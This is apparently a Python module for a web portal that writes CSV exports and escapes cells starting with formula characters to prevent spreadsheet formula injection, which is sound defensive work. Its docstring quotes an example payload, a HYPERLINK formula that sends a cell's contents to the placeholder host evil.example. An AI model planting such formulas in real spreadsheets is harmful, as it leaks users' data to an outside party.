"""The one CSV writer of the portal (exports, dashboard figures, the audit trail).

Every CSV is UTF-8 with a byte-order mark (so Excel opens Korean correctly), and any
text a spreadsheet would run as a formula — starting with = + - @, a tab or a carriage
return (OWASP's list) — is kept as text: prefixed with an apostrophe. A title such as
`=HYPERLINK("http://evil.example/?d="&A2,"Open")` typed by anyone is then read, never run.
Numbers are written as they are (a negative amount stays a number).
"""

import csv
from collections.abc import Iterable, Iterator
from numbers import Number

BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value) -> str:
    """A cell's text, with a formula-like start made harmless."""
    if value is None:
        return ""
    if isinstance(value, Number) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    """A file that hands back what is written (csv.writer then returns each line)."""

    def write(self, value):
        return value


class SafeWriter:
    """csv.writer whose every cell goes through `neutralise`; `writerow` returns the line
    written (to a file when one is given, else only returned, for streaming)."""

    def __init__(self, out=None):
        self._writer = csv.writer(out if out is not None else _Echo())

    def writerow(self, row: Iterable):
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_lines(rows: Iterable[Iterable], *, bom: bool = True) -> Iterator[str]:
    """Each row as one CSV line (the first with the byte-order mark), for a streamed response."""
    writer = SafeWriter()
    for i, row in enumerate(rows):
        line = writer.writerow(row)
        yield (BOM + line) if bom and i == 0 else line


def csv_text(rows: Iterable[Iterable], *, bom: bool = True) -> str:
    """The whole CSV as one string (small downloads)."""
    return "".join(csv_lines(rows, bom=bom))
